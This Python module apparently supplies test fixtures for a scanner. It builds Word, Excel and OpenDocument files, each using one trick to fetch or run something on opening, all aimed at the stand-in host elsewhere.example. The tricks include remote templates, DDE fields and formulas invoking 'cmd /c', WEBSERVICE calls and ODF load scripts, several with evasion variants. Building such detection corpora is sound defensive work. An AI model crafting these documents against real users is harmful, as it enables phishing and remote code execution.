"""Word, Excel and OpenDocument files that fetch or start something when they are opened, one trick each; and files
that do nothing by themselves. What would be fetched bears the word of `ELSEWHERE`.
"""

import io
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

ELSEWHERE = "elsewhere.example"
URL = f"https://{ELSEWHERE}/x"
SHARE = f"\\\\{ELSEWHERE}\\share\\x"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
V = "urn:schemas-microsoft-com:vml"
OFFICE = "urn:schemas-microsoft-com:office:office"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
OASIS = "urn:oasis:names:tc:opendocument:xmlns:"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "application/vnd.openxmlformats-officedocument."

Parts = Mapping[str, str | bytes]
Spelt = Callable[[str], bytes]


@dataclass(frozen=True)
class Trick:
    """Parts over those of an ordinary file of this kind; `name` may change how the entries are called."""

    kind: str
    parts: Parts
    name: Callable[[str], str] = str

    def made(self, spelt: Spelt = str.encode) -> bytes:
        """The file, its XML in this spelling."""
        parts = {**ORDINARY[self.kind], **self.parts}
        kept = io.BytesIO()
        with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in parts.items():
                stored = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
                plain = content if isinstance(content, bytes) else spelt(content)
                archive.writestr(self.name(name), plain, stored)
        return kept.getvalue()


def relations(*several: tuple[str, str, str, str]) -> str:
    """Of (number, last word of the type, target, mode)."""
    inside = "".join(
        f'<Relationship Id="{number}" Type="{R}/{kind}" Target="{target}"{_mode(mode)}/>'
        for number, kind, target, mode in several
    )
    return f'<Relationships xmlns="{PACKAGE}">{inside}</Relationships>'


def _mode(mode: str) -> str:
    return f' TargetMode="{mode}"' if mode else ""


def outside(kind: str, target: str = URL) -> str:
    return relations(("rId1", kind, target, "External"))


def types(main: str, *more: str) -> str:
    return (
        f'<Types xmlns="{TYPES}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{MAIN}{KINDS[main]}.main+xml"/>{"".join(more)}</Types>'
    )


KINDS = {"word/document.xml": "wordprocessingml.document", "xl/workbook.xml": "spreadsheetml.sheet"}


def document(body: str = "<w:p><w:r><w:t>Devis</w:t></w:r></w:p>") -> str:
    spaces = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}" xmlns:mc="{MC}" xmlns:v="{V}" xmlns:o="{OFFICE}"'
    return f'<w:document {spaces} xmlns:x="urn:x"><w:body>{body}<w:sectPr/></w:body></w:document>'


def word(body: str, kind: str = "", target: str = URL, **more: str) -> Trick:
    """A Word file with this body, and one relation to the outside."""
    parts = {"word/document.xml": document(body)}
    if kind:
        parts["word/_rels/document.xml.rels"] = outside(kind, target)
    return Trick("docx", {**parts, **more})


def field(*pieces: str, result: str = "12") -> str:
    """A field, its instruction in these pieces: each is the text of a run, or a whole element."""
    runs = "".join(
        piece
        if piece.startswith("<")
        else f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in pieces
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def run(text: str, name: str = "instrText") -> str:
    return f"<w:r><w:{name}>{text}</w:{name}></w:r>"


def sheet(cells: str = "<c r='A1'><v>1</v></c>", after: str = "") -> str:
    return f'<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData><row r="1">{cells}</row></sheetData>{after}</worksheet>'


def workbook(more: str = "") -> str:
    return (
        f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="Feuil1" sheetId="1" r:id="rId1"/></sheets>'
        f"{more}</workbook>"
    )


def book(*ties: tuple[str, str, str, str], more: str = "", **parts: str) -> Trick:
    """A workbook with these further relations."""
    held = relations(("rId1", "worksheet", "worksheets/sheet1.xml", ""), *ties)
    return Trick("xlsx", {"xl/workbook.xml": workbook(more), "xl/_rels/workbook.xml.rels": held, **parts})


def formula(text: str) -> Trick:
    return Trick("xlsx", {"xl/worksheets/sheet1.xml": sheet(f"<c r='A1'><f>{text}</f><v>1</v></c>")})


SPACES = " ".join(
    f'xmlns:{name}="{OASIS}{name}:1.0"'
    for name in ("office", "text", "table", "style", "form", "script", "meta", "config")
) + (
    f' xmlns:draw="{OASIS}drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:chart="{OASIS}chart:1.0"'
    f' xmlns:svg="{OASIS}svg-compatible:1.0" xmlns:xforms="http://www.w3.org/2002/xforms"'
    f' xmlns:fo="{OASIS}xsl-fo-compatible:1.0"'
)


def content(body: str = "<text:p>Devis</text:p>", before: str = "") -> str:
    return (
        f"<office:document-content {SPACES} "
        f'office:version="1.3">{before}<office:body><office:text>{body}</office:text>'
        "</office:body></office:document-content>"
    )


def open_text(body: str, before: str = "", **more: str) -> Trick:
    return Trick("odt", {"content.xml": content(body, before), **more})


def open_sheet(body: str) -> Trick:
    return Trick("ods", {"content.xml": table(body)})


def table(body: str = "") -> str:
    return (
        f"<office:document-content {SPACES}><office:body><office:spreadsheet>{body}</office:spreadsheet></office:body>"
        "</office:document-content>"
    )


def manifest(kind: str) -> str:
    return (
        f'<m:manifest xmlns:m="{OASIS}manifest:1.0"><m:file-entry m:full-path="/" m:media-type="{kind}"/>'
        '<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
    )


ODT, ODS = (f"application/vnd.oasis.opendocument.{word}" for word in ("text", "spreadsheet"))
ORDINARY: dict[str, Parts] = {
    "docx": {
        "[Content_Types].xml": types("word/document.xml"),
        "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml", "")),
        "word/document.xml": document(),
    },
    "xlsx": {
        "[Content_Types].xml": types("xl/workbook.xml"),
        "_rels/.rels": relations(("rId1", "officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": workbook(),
        "xl/_rels/workbook.xml.rels": relations(("rId1", "worksheet", "worksheets/sheet1.xml", "")),
        "xl/worksheets/sheet1.xml": sheet(),
    },
    "odt": {"mimetype": ODT.encode(), "content.xml": content(), "META-INF/manifest.xml": manifest(ODT)},
    "ods": {
        "mimetype": ODS.encode(),
        "content.xml": table(),
        "META-INF/manifest.xml": manifest(ODS),
    },
}

SETTINGS = f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
BLIP = '<w:p><w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r></w:p>'
VML = "<w:p><w:r><w:pict><v:shape><v:imagedata {}/></v:shape></w:pict></w:r></w:p>"


def template(target: str) -> Trick:
    return Trick(
        "docx",
        {"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": outside("attachedTemplate", target)},
    )


def alternative(choice: str, fallback: str) -> str:
    return (
        f'<mc:AlternateContent><mc:Choice Requires="x">{choice}</mc:Choice><mc:Fallback>{fallback}</mc:Fallback>'
        "</mc:AlternateContent>"
    )


WORD_TRICKS: dict[str, Trick] = {
    "a template from elsewhere": template(URL),
    "a template from a share": template(SHARE),
    "a template from a share, as file": template(f"file://{ELSEWHERE}/share/x.dotm"),
    "a template from a share, four slashes": template(f"file:////{ELSEWHERE}/share/x.dotm"),
    "a template from a share, escaped": template(f"file:///%5C%5C{ELSEWHERE}%5Cx.dotm"),
    "a template from a share, escaped twice": template(f"file:///%255C%255C{ELSEWHERE}%255Cx.dotm"),
    "a template, in capitals": template(f"HTTPS://{ELSEWHERE}/x"),
    "a template behind a blank": template(f" &#9;https://{ELSEWHERE}/x"),
    "a template whose mode is written otherwise": Trick(
        "docx",
        {
            "word/settings.xml": SETTINGS,
            "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", URL, "external")),
        },
    ),
    "a template without a mode": Trick(
        "docx",
        {
            "word/settings.xml": SETTINGS,
            "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", URL, "")),
        },
    ),
    "a template through a link": Trick(
        "docx", {"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": outside("hyperlink")}
    ),
    "relations of another case": Trick(
        "docx",
        {"word/settings.xml": SETTINGS, "word/_rels/settings.xml.rels": outside("attachedTemplate")},
        lambda name: name.replace("_rels/settings.xml.rels", "_RELS/Settings.xml.RELS"),
    ),
    "a picture from elsewhere": word(BLIP, "image"),
    "a picture from elsewhere through a link": word(BLIP, "hyperlink"),
    "a picture without a mode": Trick(
        "docx",
        {
            "word/document.xml": document(BLIP),
            "word/_rels/document.xml.rels": relations(("rId1", "image", URL, "")),
        },
    ),
    "an old drawing from elsewhere": word(VML.format('r:href="rId1"'), "image"),
    "an old drawing by its address": word(VML.format(f'src="{URL}"')),
    "an old drawing by another address": word(VML.format(f'o:href="{URL}"')),
    "an object from elsewhere": word(
        '<w:p><w:r><w:object><o:OLEObject Type="Link" r:id="rId1"/></w:object></w:r></w:p>', "oleObject"
    ),
    "a frame": Trick(
        "docx",
        {
            "word/webSettings.xml": f'<w:webSettings xmlns:w="{W}" xmlns:r="{R}"><w:frameset><w:frame>'
            '<w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>',
            "word/_rels/webSettings.xml.rels": outside("frame"),
        },
    ),
    "a part of a longer document": word('<w:subDoc r:id="rId1"/>', "subDocument"),
    "a piece of a page": Trick(
        "docx",
        {
            "word/document.xml": document('<w:altChunk r:id="rId1"/>'),
            "word/_rels/document.xml.rels": relations(("rId1", "aFChunk", "x.htm", "")),
            "word/x.htm": f"<html xmlns='http://www.w3.org/1999/xhtml'><img src='{URL}'/></html>",
        },
    ),
    "a mailing": Trick(
        "docx",
        {
            "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:mailMerge><w:connectString '
            f'w:val="Data Source={SHARE}"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>',
            "word/_rels/settings.xml.rels": outside("mailMergeSource"),
        },
    ),
    "a control": word('<w:p><w:r><w:object><w:control r:id="rId1"/></w:object></w:r></w:p>', "control"),
    "an extension of the web": Trick(
        "docx",
        {
            "_rels/.rels": relations(
                ("rId1", "officeDocument", "word/document.xml", ""),
                ("rId2", "webextensiontaskpanes", "word/x.xml", ""),
            ),
            "word/x.xml": f'<t xmlns="urn:x" store="{URL}"/>',
        },
    ),
    "buttons of its own": Trick(
        "docx",
        {
            "_rels/.rels": relations(
                ("rId1", "officeDocument", "word/document.xml", ""),
                ("rId2", "extensibility", "customUI/x.xml", ""),
            ),
            "customUI/x.xml": f'<customUI xmlns="urn:x" onLoad="{URL}"/>',
        },
    ),
    "a vector drawing that fetches": Trick(
        "docx",
        {
            "word/media/image1.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{URL}"/><style>'
            f"@import url({URL});</style><rect style='fill:url({URL}#a)'/></svg>",
        },
    ),
    "a field DDE": word(field(f'DDE cmd "/c {ELSEWHERE}"')),
    "a field DDEAUTO in capitals and not": word(field(f'ddeAuto cmd "/c {ELSEWHERE}"')),
    "a field DDEAUTO in pieces": word(field("D", "DEAU", "TO cmd ", f'"/c {ELSEWHERE}"')),
    "a field INCLUDEPICTURE": word(field(f'INCLUDEPICTURE "{URL}" \\d')),
    "a field INCLUDETEXT": word(field(f'INCLUDETEXT "{URL}"')),
    "a field IMPORT": word(field(f'IMPORT "{URL}"')),
    "a field LINK": word(field(f'LINK Excel.Sheet "{URL}"')),
    "a field DATABASE": word(field(f'DATABASE \\c "{URL}"')),
    "a field without a space": word(field(f'INCLUDEPICTURE"{URL}"')),
    "a field in quotes": word(field(f'"INCLUDEPICTURE" "{URL}"')),
    "a field whose word another gives": word(field(field("QUOTE 68 68 69"), f' "{URL}"')),
    "a simple field": word(
        f'<w:p><w:fldSimple w:instr=" DDEAUTO cmd {ELSEWHERE} "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    ),
    "a field inside a field": word(field(" IF 1 = 1 ", field(f'INCLUDEPICTURE "{URL}"'), ' "a"')),
    "a field without an end": word(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{run(f"DDE cmd {ELSEWHERE}")}</w:p>'
    ),
    "a field in the other branch": word(field(alternative(run("QUOTE"), run(f"DDE {ELSEWHERE}")))),
    "a field behind deleted text": word(
        field(f"<w:del>{run('QUOTE ', 'delInstrText')}</w:del>", f"DDEAUTO cmd {ELSEWHERE}")
    ),
    "a field behind what is not known": word(
        field(f"<x:y>{run('QUOTE ')}</x:y>", f"DDEAUTO cmd {ELSEWHERE}")
    ),
    "a field that begins in one branch only": word(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + alternative('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + run("QUOTE"), "")
        + run(f"DDE cmd {ELSEWHERE}")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
}

WORD_TRICKS["a form of InfoPath"] = Trick(
    "docx",
    {
        "customXml/item1.xml": '<x:customXsn xmlns:x="http://schemas.microsoft.com/office/2006/metadata/customXsn">'
        f"<x:xsnLocation>{URL}</x:xsnLocation><x:openByDefault>True</x:openByDefault></x:customXsn>"
    },
)
WORD_TRICKS["a film of the web"] = word(
    '<w:p><w:r><w:drawing><y:webVideoPr xmlns:y="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
    f'embeddedHtml="&lt;iframe src={URL}&gt;"/></w:drawing></w:r></w:p>'
)

WORD_TRICKS["a piece of elsewhere"] = Trick(
    "docx",
    {"customXml/item1.xml": f'<a><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{URL}"/></a>'},
)
WORD_TRICKS["a schema of elsewhere"] = Trick(
    "docx",
    {
        "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:s="http://schemas.openxmlformats.org/schemaLibrary/2006/'
        f'main"><s:schemaLibrary><s:schema s:uri="a" s:schemaLocation="{URL}"/></s:schemaLibrary></w:settings>'
    },
)

LINKS = '<externalReferences><externalReference r:id="rId9"/></externalReferences>'
SHEET_TRICKS: dict[str, Trick] = {
    "a link to another workbook": book(
        ("rId9", "externalLink", "externalLinks/externalLink1.xml", ""),
        more=LINKS,
        **{
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}" xmlns:r="{R}">'
            '<externalBook r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": outside("externalLinkPath"),
        },
    ),
    "a link of DDE": book(
        ("rId9", "externalLink", "externalLinks/externalLink1.xml", ""),
        more=LINKS,
        **{
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}">'
            f'<ddeLink ddeService="cmd" ddeTopic="{ELSEWHERE}"/></externalLink>'
        },
    ),
    "a connection": book(
        ("rId9", "connections", "connections.xml", ""),
        **{
            "xl/connections.xml": f'<connections xmlns="{S}"><connection id="1" refreshOnLoad="1">'
            f'<webPr url="{URL}"/></connection></connections>'
        },
    ),
    "buttons of its own": Trick(
        "xlsx",
        {
            "_rels/.rels": relations(
                ("rId1", "officeDocument", "xl/workbook.xml", ""),
                ("rId2", "extensibility", "customUI/x.xml", ""),
            ),
            "customUI/x.xml": f'<customUI xmlns="urn:x" onLoad="{URL}"/>',
        },
    ),
    "a picture under the cells": Trick(
        "xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet(after='<picture r:id="rId1"/>'),
            "xl/worksheets/_rels/sheet1.xml.rels": outside("image"),
        },
    ),
    "an object from elsewhere": Trick(
        "xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet(
                after='<oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects>'
            ),
            "xl/worksheets/_rels/sheet1.xml.rels": outside("oleObject"),
        },
    ),
    "a query": Trick(
        "xlsx",
        {
            "xl/worksheets/_rels/sheet1.xml.rels": relations(
                ("rId1", "queryTable", "../queryTables/q.xml", "")
            ),
            "xl/queryTables/q.xml": f'<queryTable xmlns="{S}" name="{ELSEWHERE}" connectionId="1"/>',
        },
    ),
    "a web picture": book(
        ("rId9", "rdRichValueWebImage", "richData/w.xml", ""),
        **{
            "xl/richData/w.xml": f'<webImagesSrd xmlns="urn:x" xmlns:r="{R}"><address r:id="rId1"/></webImagesSrd>',
            "xl/richData/_rels/w.xml.rels": outside("hyperlink"),
        },
    ),
    "a formula of DDE": formula(f"cmd|'/c {ELSEWHERE}'!A0"),
    "a formula of DDE in quotes": formula(f"'cmd|/c {ELSEWHERE}'!A0"),
    "a formula WEBSERVICE": formula(f'_xlfn.WEBSERVICE("{URL}")'),
    "a formula webservice": formula(f'1+webService ("{URL}")'),
    "a formula IMAGE": formula(f'_xlfn.IMAGE("{URL}")'),
    "a formula RTD": formula(f'RTD("a",,"{ELSEWHERE}")'),
    "a formula CALL": formula(f'CALL("a","b","{ELSEWHERE}")'),
    "a formula of another workbook": formula(f"'{SHARE}\\[a.xlsx]b'!A1"),
    "a formula of another web page": formula(f"'{URL}/[a.xlsx]b'!A1"),
    "a formula of a numbered workbook": formula(f'[1]Feuil1!A1&amp;"{ELSEWHERE}"'),
    "a name of DDE": book(
        more=f"<definedNames><definedName name='a'>cmd|'{ELSEWHERE}'!A0</definedName></definedNames>"
    ),
    "a check of cells": Trick(
        "xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet(
                after=f"<dataValidations><dataValidation type='custom' sqref='A1'><formula1>WEBSERVICE(\"{URL}\")"
                "</formula1></dataValidation></dataValidations>"
            )
        },
    ),
}

X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
FETCH = f'WEBSERVICE("{URL}")'


def after(text: str) -> Trick:
    """A sheet with this behind its cells."""
    return Trick("xlsx", {"xl/worksheets/sheet1.xml": sheet(after=text)})


def extended(text: str) -> Trick:
    return after(f'<extLst><ext xmlns:x14="{X14}" xmlns:xm="{XM}">{text}</ext></extLst>')


def scale(value: str) -> str:
    return (
        '<conditionalFormatting sqref="A1"><cfRule type="colorScale"><colorScale>'
        f"<cfvo type='formula' val='{value}'/><cfvo type='max'/></colorScale></cfRule></conditionalFormatting>"
    )


SHEET_TRICKS |= {
    "a formula INDIRECT": formula(f"INDIRECT(\"'https://{ELSEWHERE}/[a.xlsx]b'!A1\")"),
    "a formula INDIRECT in pieces": formula(
        f'SUM(INDIRECT("\'https:"&amp;"//{ELSEWHERE}/[a"&amp;".xlsx]b\'!A1"))'
    ),
    "a formula INDIRECT of a cell": formula(f'INDIRECT(A9)&amp;"{ELSEWHERE}"'),
    "a formula INDIRECT of a sheet that a cell names": formula(
        f'INDIRECT(ADDRESS(1,1,1,1,A9))&amp;"{ELSEWHERE}"'
    ),
    "a formula behind blanks": formula(f'WEBSERVICE{" " * 30}("{URL}")'),
    "a formula between two names": formula(f"'a\"b'!A1&amp;WEBSERVICE(\"{URL}\")&amp;'c\"d'!A1"),
    "a function that another one is given": formula(f'MAP("{URL}",_xleta.WEBSERVICE)'),
    "a formula that asks a cube": formula(f'CUBEVALUE("{ELSEWHERE}","a")'),
    "a scale of colours": after(scale(f"LEN({FETCH})")),
    "a scale of colours, extended": extended(
        f"<x14:conditionalFormatting><x14:cfRule><x14:dataBar><x14:cfvo type='formula'><xm:f>{FETCH}</xm:f></x14:cfvo>"
        "</x14:dataBar></x14:cfRule></x14:conditionalFormatting>"
    ),
    "a small chart in a cell": extended(
        f"<x14:sparklineGroups><x14:sparkline><xm:f>'https://{ELSEWHERE}/[a.xlsx]b'!A1</xm:f></x14:sparkline>"
        "</x14:sparklineGroups>"
    ),
    "a check of cells, extended": extended(
        f"<x14:dataValidations><x14:dataValidation><x14:formula1><xm:f>{FETCH}</xm:f></x14:formula1>"
        "</x14:dataValidation></x14:dataValidations>"
    ),
    "a page that is published": after(
        f"<webPublishItems><webPublishItem destinationFile='{URL}'/></webPublishItems>"
    ),
    "kinds of words": book(
        more=f"<smartTagTypes><smartTagType namespaceUri='urn:x' name='y' url='{URL}'/></smartTagTypes>"
    ),
    "a name that runs": book(
        more=f"<definedNames><definedName name='_xlnm.Auto_Open'>{ELSEWHERE}</definedName></definedNames>"
    ),
    "a chart": Trick(
        "xlsx",
        {
            "xl/charts/chart1.xml": '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
            'xmlns:c15="http://schemas.microsoft.com/office/drawing/2012/chart">'
            f"<c:f>'https://{ELSEWHERE}/[a.xlsx]b'!A1</c:f><c15:f>{FETCH}</c15:f></c:chartSpace>"
        },
    ),
    "an old box": Trick(
        "xlsx",
        {
            "xl/drawings/vmlDrawing1.vml": '<xml xmlns:x="urn:schemas-microsoft-com:office:excel">'
            f"<x:ClientData><x:FmlaMacro>'https://{ELSEWHERE}/[a.xlsm]b'!c</x:FmlaMacro></x:ClientData></xml>"
        },
    ),
}

IMAGE = '<text:p><draw:frame><draw:image xlink:href="{}"/></draw:frame></text:p>'
OPEN_TRICKS: dict[str, Trick] = {
    "a picture from elsewhere": open_text(IMAGE.format(URL)),
    "a picture from a share": open_text(IMAGE.format(f"//{ELSEWHERE}/x.png")),
    "a picture from a share, as a file": open_text(IMAGE.format(f"file://{ELSEWHERE}/x.png")),
    "a picture in capitals": open_text(IMAGE.format(f" HTTP://{ELSEWHERE}/x.png")),
    "an object from elsewhere": open_text(f'<draw:frame><draw:object xlink:href="{URL}"/></draw:frame>'),
    "a frame": open_text(f'<draw:frame><draw:floating-frame xlink:href="{URL}"/></draw:frame>'),
    "a film": open_text(f'<draw:frame><draw:plugin xlink:href="{URL}"/></draw:frame>'),
    "a program in Java": open_text(
        f'<draw:frame><draw:applet xlink:href="{URL}" draw:code="{ELSEWHERE}"/></draw:frame>'
    ),
    "a section from elsewhere": open_text(
        f'<text:section text:name="a"><text:section-source xlink:href="{URL}"/><text:p>1</text:p></text:section>'
    ),
    "a link of DDE": open_text(
        f'<text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd" '
        f'office:dde-topic="{ELSEWHERE}"/>'
        "</text:dde-connection-decls>"
    ),
    "a section of DDE": open_text(
        f'<text:section text:name="a"><office:dde-source office:dde-application="cmd" '
        f'office:dde-item="{ELSEWHERE}"/></text:section>'
    ),
    "a script when it is opened": open_text(
        "<text:p/>",
        f'<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" '
        f'xlink:href="{URL}"/>'
        "</office:event-listeners></office:scripts>",
    ),
    "a script in the text": open_text(
        f'<text:p><text:script script:language="JavaScript">{ELSEWHERE}</text:script></text:p>'
    ),
    "a page that comes again": Trick(
        "odt",
        {
            "meta.xml": f"<office:document-meta {SPACES}><office:meta>"
            f'<meta:auto-reload xlink:href="{URL}" meta:delay="PT1S"/>'
            "</office:meta></office:document-meta>"
        },
    ),
    "a template from elsewhere": Trick(
        "odt",
        {
            "meta.xml": f'<office:document-meta {SPACES}><office:meta><meta:template xlink:href="{URL}"/></office:meta>'
            "</office:document-meta>"
        },
    ),
    "a form's picture": open_text(
        f'<office:forms><form:form><form:image form:image-data="{URL}"/></form:form></office:forms>'
    ),
    "a form's data": open_text(f'<office:forms><form:form form:datasource="{URL}"/></office:forms>'),
    "a form of the web": open_text(f'<office:forms><xforms:model schema="{URL}"/></office:forms>'),
    "a font from elsewhere": Trick(
        "odt",
        {
            "content.xml": content(
                before=f"<office:font-face-decls><style:font-face "
                f'style:name="a"><svg:font-face-src><svg:font-face-uri '
                f'xlink:href="{URL}"/></svg:font-face-src></style:font-face></office:font-face-decls>'
            )
        },
    ),
    "a background from elsewhere": Trick(
        "odt",
        {
            "styles.xml": f"<office:document-styles {SPACES}><office:styles>"
            f'<draw:fill-image draw:name="a" xlink:href="{URL}"/>'
            f'<style:style style:name="b"><style:paragraph-properties><style:background-image xlink:href="{URL}"/>'
            "</style:paragraph-properties></style:style></office:styles></office:document-styles>"
        },
    ),
    "settings from elsewhere": Trick(
        "odt",
        {
            "settings.xml": f"<office:document-settings {SPACES}><office:settings>"
            "<config:config-item-set config:name='a'>"
            f"<config:config-item config:name='ColorTableURL'>{URL}</config:config-item></config:config-item-set>"
            "</office:settings></office:document-settings>"
        },
    ),
    "an object of another kind": Trick("odt", {"Object 1/content.xml": content(IMAGE.format(URL))}),
    "a vector drawing that fetches": Trick(
        "odt", {"Pictures/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><use href="{URL}#a"/></svg>'}
    ),
    "a table from elsewhere": open_sheet(
        f'<table:table table:name="a"><table:table-source xlink:href="{URL}" table:table-name="b"/></table:table>'
    ),
    "cells from elsewhere": open_sheet(
        f'<table:table table:name="a"><table:table-row><table:table-cell><table:cell-range-source xlink:href="{URL}"/>'
        "</table:table-cell></table:table-row></table:table>"
    ),
    "a formula of DDE": open_sheet(
        f"<table:table><table:table-row><table:table-cell "
        f'table:formula="of:=DDE(&quot;cmd&quot;;&quot;{ELSEWHERE}&quot;;&quot;a&quot;)"/>'
        "</table:table-row></table:table>"
    ),
    "a formula of another file": open_sheet(
        f"<table:table><table:table-row><table:table-cell "
        f"table:formula=\"of:=['{URL}'#$a.A1]\"/></table:table-row></table:table>"
    ),
    "a formula WEBSERVICE": open_sheet(
        f"<table:table><table:table-row><table:table-cell "
        f'table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;{URL}&quot;)"/>'
        "</table:table-row></table:table>"
    ),
}

CALC = 'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
OPEN_FETCH = f"WEBSERVICE(&quot;{URL}&quot;)"
OTHER_FILE = f"'{URL}.ods'#$a.A1"


def cell(attributes: str) -> Trick:
    return open_sheet(
        f"<table:table><table:table-row><table:table-cell {attributes}/></table:table-row></table:table>"
    )


def named(inside: str) -> Trick:
    return open_sheet(f"<table:table/><table:named-expressions>{inside}</table:named-expressions>")


def conditional(inside: str) -> Trick:
    return open_sheet(
        f"<table:table><calcext:conditional-formats {CALC}><calcext:conditional-format>{inside}"
        "</calcext:conditional-format></calcext:conditional-formats></table:table>"
    )


OPEN_TRICKS |= {
    "a formula INDIRECT": cell(f'table:formula="of:=INDIRECT(&quot;{OTHER_FILE}&quot;)"'),
    "a formula INDIRECT of a cell": cell(f'table:formula="of:=INDIRECT([.A9])&amp;&quot;{ELSEWHERE}&quot;"'),
    "an expression by its name": named(
        f'<table:named-expression table:name="a" table:expression="of:={OPEN_FETCH}"/>'
    ),
    "an expression by its name, bare": named(
        f'<table:named-expression table:name="a" table:expression="{OPEN_FETCH}"/>'
    ),
    "cells by their name": named(
        f'<table:named-range table:name="a" table:cell-range-address="{OTHER_FILE}"/>'
    ),
    "cells by their name, from": named(
        f'<table:named-range table:name="a" table:base-cell-address="{OTHER_FILE}" table:cell-range-address="$a.$A$1"/>'
    ),
    "a condition": conditional(f'<calcext:condition calcext:value="formula-is({OPEN_FETCH})"/>'),
    "a condition from": conditional(
        f'<calcext:condition calcext:value="=1" calcext:base-cell-address="{OTHER_FILE}"/>'
    ),
    "a bar in a cell": conditional(
        f'<calcext:data-bar><calcext:formatting-entry calcext:type="formula" calcext:value="{OPEN_FETCH}"/>'
        "</calcext:data-bar>"
    ),
    "a scale of colours": conditional(
        f'<calcext:color-scale><calcext:color-scale-entry calcext:type="formula" calcext:value="LEN({OPEN_FETCH})"/>'
        "</calcext:color-scale>"
    ),
    "a check of cells": open_sheet(
        "<table:content-validations><table:content-validation table:name='a' "
        f'table:condition="of:is-true-formula({OPEN_FETCH})"/></table:content-validations>'
    ),
    "sums of other cells": open_sheet(
        f'<table:consolidation table:function="sum" table:source-cell-range-addresses="{OTHER_FILE}" '
        'table:target-cell-address="a.A1"/>'
    ),
    "a service of pivots": open_sheet(
        "<table:data-pilot-tables><table:data-pilot-table table:name='a'>"
        f"<table:source-service table:source-name='{URL}'/></table:data-pilot-table></table:data-pilot-tables>"
    ),
    "a chart of other cells": Trick(
        "ods",
        {"Object 1/content.xml": content(f'<chart:series chart:values-cell-range-address="{OTHER_FILE}"/>')},
    ),
    "a field of other cells": open_text(
        f'<office:forms><form:form><form:listbox form:source-cell-range="{OTHER_FILE}"/></form:form></office:forms>'
    ),
    "an attribute that is not known": open_text(f'<text:p text:anything="{URL}"/>'),
}
